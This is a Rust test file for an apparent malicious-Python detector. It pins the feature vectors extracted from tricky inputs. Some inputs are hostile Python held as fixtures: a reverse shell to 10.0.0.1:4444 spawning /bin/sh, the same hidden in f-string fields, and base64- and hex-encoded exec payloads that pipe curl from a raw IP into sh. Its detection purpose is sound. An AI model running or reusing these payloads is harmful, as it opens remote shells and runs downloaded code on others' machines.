//! Pins the features of a few inputs that exercise the tokenizer's corners (spaced dotted
//! names, escapes, unterminated and prefixed strings, CRLF, Unicode, junk) and the payload,
//! entropy and URL paths. The committed model was trained on these values: a change that moves
//! them needs a retrained model, not a new pin, unless the committed model, evaluated again
//! under the new features (`scripts/train-pyml.sh --evaluate crates/pyml/model/shrike-pyml.model`),
//! still passes the held-out test and the blind sets, as the model card then records. (Last
//! moved in the twentieth session: f-strings are read as CPython 3.12 reads them, their fields
//! as code and their text with `{}` for each field; the committed model was kept.)
//! (`cargo run --release -p shrike-pyml --example feature_dump` compares two versions over whole
//! corpora.)
#![allow(missing_docs, reason = "test code")]

use shrike_pyml::features::{extract, NAMES};

/// Name, input, and its features: the named ones that are not 0 (as f32 bits) and the buckets.
const CASES: &[(&str, &str, &str)] = &[
    (
        "spaced_dotted_reverse_shell",
        "import socket , os,pty\ns = socket . socket()\ns.connect(('10.0.0.1',4444))\n[os . dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n",
        "dup2=3f800000 pty=3f800000 socket=3f800000 connect=3f800000 shell_string=3f800000 ip_literal=3f800000 size=3ea631b2 reverse_shell=3f800000 socket_shell=3f800000 | 239,863,912,4308,5767,5882,6158,6161,8122,8158,10137,11031,11624,12047,12168,15012,16013,17278,17794,17817,18214,19514,20417,20962,21302,21480,25540,25857,26156,27672,30029,30316,30413,31390",
    ),
    (
        "hex_escapes_executed",
        "exec('\\x69\\x6d\\x70\\x6f\\x72\\x74 os;os.system(\"id\")')\n",
        "exec=3f800000 os_system=3f800000 escape_density=3eec4ec5 size=3e85b863 | 9165,19036,21066",
    ),
    (
        "unterminated_strings",
        "x = 'abc\ny = \"\"\"never\nclosed \\\\\n'\\",
        "size=3e6f7d60 | 3912,4856,7567,11624,11688,12787,20212,20615,22370,26891",
    ),
    (
        "prefixes_and_escapes",
        "a = rb'\\d+\\'' + Rb\"x\" + b'\\777\\0\\x4' + u'\\u00e9\\N{X}\\U0001F600' + f'{a}' + '\\\nb' + r'''x\ny'''\n",
        "string_entropy=3db3f460 escape_density=3e2e4c41 size=3e996023 | 2883,7567,7594,7658,7696,7869,8210,10540,11624,11749,11899,12604,15057,17076,17359,20615,21066,28365",
    ),
    (
        "fstring_fields",
        "f\"{__import__('os').system('curl http://10.0.0.1/x | sh')}\"\nimport socket, pty\ns = socket.socket()\nf'''{s.connect((\"10.0.0.1\", 4444))}{[__import__(\"os\").dup2(s.fileno(), k) for k in (0, 1, 2)]}\n{pty.spawn(\"/bin/sh\")}'''\n",
        "dynamic_import=3f800000 os_system=3f800000 dup2=3f800000 pty=3f800000 socket=3f800000 connect=3f800000 shell_string=3f800000 download_command=3f800000 ip_literal=3f800000 raw_ip_url=3f800000 url=3e4aff64 size=3eb5cfaf reverse_shell=3f800000 socket_shell=3f800000 download_exec=3f800000 | 359,863,912,1448,2716,2829,4308,5500,5767,5882,6161,7567,8122,8158,10474,10739,11031,11624,11980,14570,15012,16013,17697,17794,17817,18259,18656,20417,21066,21480,21660,22735,22977,24535,25540,25857,26156,30029,30316,30413,30732,31390,32021,32226",
    ),
    (
        "base64_payload",
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8vMS4yLjMuNC94IHwgc2gnKQ=='))\n",
        "exec=3f800000 os_system=3f800000 base64_decode=3f800000 download_command=3f800000 ip_literal=3f800000 raw_ip_url=3f800000 url=3e4aff64 long_base64=3e149a6b string_entropy=3f1d05b8 hidden_code=3f800000 hidden_exec=3f800000 size=3e9e502c decode_exec=3f800000 download_exec=3f800000 exec_decoded_literal=3f800000 | 4308,8807,12440,15051,16418,19036,28346,30267,31547",
    ),
    (
        "crlf_comments_semicolons",
        "# c\r\nimport os;import sys\r\n\tx=1;y=2 # t\r\n\r\n  # only a comment\nzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz\n",
        "long_line=3ecd3e09 semicolons=3e924925 comments=3e924925 size=3ec69e0d | 4308,5166,7958,10125,11031,11624,11688,12787,15827,18080,20212,20615,24933,28260,30382",
    ),
    (
        "weird_names_numbers_ops",
        "O0O0O0 = lIlIlI1 + _0x1f2e + 0x1F + 1e10 + .5 + 1..2 + 0777L\nx[::-1]; a<>b; c:=d; e**=f//g->h\n`b` ; ;\n",
        "reversed_string=3f800000 semicolons=3f800000 obfuscated_names=3eaa0864 size=3e9c1941 | 41,498,2343,3420,5301,6525,7594,8122,8210,8928,9331,9734,10137,10540,11218,11346,11624,11749,14167,15941,18754,20615,21110,21231,22804,23697,23812,27002,27118,27514,30188,30333,30452",
    ),
    (
        "unicode_and_junk",
        "\u{e9} = '\u{fc}'; \u{2211} = \"\\\u{e9}\"\n\u{0}\u{7f}\u{ffff} \u{3c0}.\u{3c3}(1) \u{10ffff}\n",
        "semicolons=3eaaaaab size=3e7ee795 | 95,145,1522,4057,6436,7082,10590,11624,15057,15418,21066,26449,26817,31181",
    ),
    (
        "empty",
        "",
        " | ",
    ),
    (
        "entropy_hex_url",
        "k = 'Zx9!qW#4rT$7yU%1iO^3pA&5sD*8fG(0hJ)2kL'\nh = bytes.fromhex('696d706f7274206f730a6f732e73797374656d282769642729')\nu = 'http://10.1.2.3:8080/a' + 'HTTPS://[::1]/'\n",
        "os_system=3f800000 hex_decode=3f800000 ip_literal=3f800000 raw_ip_url=3f800000 url=3ea0df2f long_hex=3e87eef9 string_entropy=3f1fbc30 hidden_code=3f800000 size=3eac2c3e | 2883,2935,7594,11624,12537,14167,14570,15057,15376,20305,21066,24738,25048,25561,27972,28670,29410,29955,31856",
    ),
    (
        "long_dotted_chain",
        "a.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b.b(1)\nq . r . s = t\n",
        "long_line=3eecb930 size=3ecb6fe2 | 2671,11201,11624,14636,15234,15779,19840,20260,30953",
    ),
];

fn describe(src: &str) -> String {
    let f = extract(src);
    let named: Vec<String> = f
        .named
        .iter()
        .enumerate()
        .filter(|(_, v)| v.to_bits() != 0)
        .map(|(i, v)| format!("{}={:08x}", NAMES[i], v.to_bits()))
        .collect();
    let hashed: Vec<String> = f.hashed.iter().map(u32::to_string).collect();
    format!("{} | {}", named.join(" "), hashed.join(","))
}

#[test]
fn features_of_tricky_inputs_are_pinned() {
    let mut wrong = Vec::new();
    for (name, src, want) in CASES {
        let got = describe(src);
        if got != *want {
            wrong.push(format!("{name}:\n  want {want}\n  got  {got}"));
        }
    }
    assert!(wrong.is_empty(), "features moved:\n{}", wrong.join("\n"));
}
